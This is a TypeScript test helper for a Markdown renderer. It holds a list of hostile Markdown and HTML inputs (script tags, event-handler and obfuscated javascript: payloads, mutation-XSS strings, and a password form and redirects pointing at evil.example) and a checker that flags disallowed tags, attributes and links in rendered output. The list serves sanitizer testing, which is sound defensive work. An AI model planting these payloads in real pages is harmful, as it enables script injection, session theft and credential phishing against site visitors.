import { type ChildNode, type Element, isTag, isText } from 'domhandler';
import { parseDocument } from 'htmlparser2';

/** Known ways to get something to run, load or leak out of Markdown and HTML. */
export const HOSTILE_MARKDOWN = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x]( \u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/x)',
  '[x](/s/elsewhere)',
  '[x](file:///etc/passwd)',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://evil.example/x)',
  '![x](https://evil.example/"onerror="alert(1))',
  '[x](https://evil.example/" onmouseover="alert(1))',
  '[x](https://evil.example "title" onclick=alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[![x](https://evil.example/a "b")](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.example/"onclick="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  '```"><script>alert(1)</script>\nx\n```',
  '``</code><script>alert(1)</script>``',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<form action=https://evil.example><input name=password><button>ok</form>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '</article></main><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '# <details open ontoggle=alert(1)>',
  '<x id=x tabindex=1 onfocus=alert(1)></x>',
];

const ALLOWED_TAGS = new Set(
  'html head meta title body main h1 h2 h3 h4 h5 h6 p a article time br hr em strong s code pre blockquote ul ol li table thead tbody tr th td'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set('lang charset name content class rel href dir datetime start'.split(' '));

/** What of a page, as a browser would parse it, could run, load, style or post anything. */
export function faultsOf(page: string): string[] {
  const faultsIn = (node: ChildNode): string[] => {
    if (isText(node)) return [];
    if (!isTag(node)) return node.type === 'directive' ? [] : [`a ${node.type}`];
    return [...ownFaults(node), ...node.children.flatMap(faultsIn)];
  };
  return parseDocument(page).children.flatMap(faultsIn);
}

function ownFaults({ name, attribs, parent }: Element): string[] {
  const names = Object.keys(attribs).filter((attribute) => !ALLOWED_ATTRIBUTES.has(attribute));
  const isLink = attribs.href === undefined || /^(https?:\/\/|mailto:)/.test(attribs.href);
  const isBlank = name !== 'a' || attribs.rel === 'noopener noreferrer nofollow';
  const isPageStyle = name === 'style' && parent !== null && isTag(parent) && parent.name === 'head';
  return [
    ...(ALLOWED_TAGS.has(name) || isPageStyle ? [] : [name]),
    ...names.map((attribute) => `${name} ${attribute}`),
    ...(isLink ? [] : [`to ${attribs.href}`]),
    ...(isBlank ? [] : [`${name} without rel`]),
  ];
}
